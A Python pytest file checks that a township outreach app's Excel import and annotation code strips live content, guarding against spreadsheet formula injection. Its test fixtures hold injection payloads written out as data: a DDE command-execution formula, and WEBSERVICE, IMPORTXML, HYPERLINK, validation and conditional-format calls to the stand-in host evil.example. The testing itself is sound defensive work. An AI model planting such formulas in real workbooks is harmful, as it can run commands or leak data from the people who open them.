"""No workbook the program writes holds a formula, link or rule it did not write itself (OWASP formula injection).

The annotated copy of a refused file is the dangerous one: it is built from the cadre's own workbook,
which may carry DDE calls, web fetches and live links. The template and the monthly report are
checked the same way (``excel_samples.live_content`` reads the written XML itself).
"""

from __future__ import annotations

import pytest

from excel_samples import live_content
from outreach_desk.services.excel import annotate, import_rows, template

HEADER = ["日期", "村/社区", "活动类型", "数量", "备注"]
HOSTILE = ["=cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.example/x")', '=IMPORTXML("http://evil.example","//a")',
           '=HYPERLINK("http://evil.example","点我")']
PLAIN_LIST = '"太平村,幸福社区"'


def _hostile_workbook(path):
    from openpyxl import Workbook
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.styles import PatternFill
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation
    from openpyxl.worksheet.formula import ArrayFormula

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "活动"
    sheet.append(HEADER)
    for formula in HOSTILE:
        sheet.append(["2026-11-03", "太平村", "横幅标语", 2, formula])  # openpyxl stores these as formulas
    sheet.append(["2026-11-03", "无此村", "横幅标语", 2, "点此查看"])
    sheet["E6"].hyperlink = "http://evil.example/link"
    sheet["F2"] = ArrayFormula("F2", '=WEBSERVICE("http://evil.example/array")')
    workbook.defined_names["evil"] = DefinedName("evil", attr_text="cmd|' /C calc'!A0")
    workbook.defined_names["villages"] = DefinedName("villages", attr_text="'活动'!$B$2:$B$9")
    live = DataValidation(type="list", formula1='WEBSERVICE("http://evil.example/list")')
    plain = DataValidation(type="list", formula1=PLAIN_LIST)
    for validation, cells in ((live, "C2:C9"), (plain, "B2:B9")):
        sheet.add_data_validation(validation)
        validation.add(cells)
    sheet.conditional_formatting.add("A1:E9", FormulaRule(formula=['ISNUMBER(WEBSERVICE("http://evil.example"))'],
                                                          fill=PatternFill("solid", fgColor="FF0000")))
    workbook.save(path)
    return path


@pytest.mark.parametrize("mode", ["loaded whole", "streamed"])
def test_the_annotated_copy_of_a_hostile_file_holds_no_live_formula_or_link(township, tmp_path, monkeypatch, mode):
    from openpyxl import load_workbook

    source = _hostile_workbook(tmp_path / "敌意.xlsx")
    assert len(live_content(source)) >= 7  # the checker sees what the cadre's file holds
    if mode == "streamed":
        monkeypatch.setattr(annotate, "WHOLE_LOAD_LIMIT", 0)
    plan = import_rows.prepare(source)
    assert not plan.ok
    marked = annotate.write_annotated(plan, tmp_path / "敌意（已标注）.xlsx")
    assert live_content(marked) == []
    sheet = load_workbook(marked)["活动"]
    for row, formula in enumerate(HOSTILE, 2):
        cell = sheet.cell(row, 5)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (formula, "s", True)
        assert cell.comment is not None  # and marked as a formula the import does not take
    assert sheet["E6"].value == "点此查看" and sheet["E6"].hyperlink is None
    if mode == "loaded whole":
        assert [v.formula1 for v in sheet.data_validations.dataValidation] == [PLAIN_LIST]


def test_the_annotated_copy_of_a_csv_keeps_formula_text_as_text(township, tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "注入.csv"
    lines = [",".join(HEADER)] + [f'2026-11-03,无此村,横幅标语,2,"{f.replace(chr(34), chr(34) * 2)}"' for f in HOSTILE]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    plan = import_rows.prepare(path)
    marked = annotate.write_annotated(plan, tmp_path / "注入（已标注）.xlsx")
    assert live_content(marked) == []
    sheet = load_workbook(marked)["注入"]
    assert [(sheet.cell(r, 5).value, sheet.cell(r, 5).quotePrefix) for r in range(2, 6)] == [(f, True) for f in HOSTILE]


def test_the_entry_template_holds_only_its_own_plain_rules(township, tmp_path):
    assert live_content(template.make_template(tmp_path / "录入表.xlsx")) == []
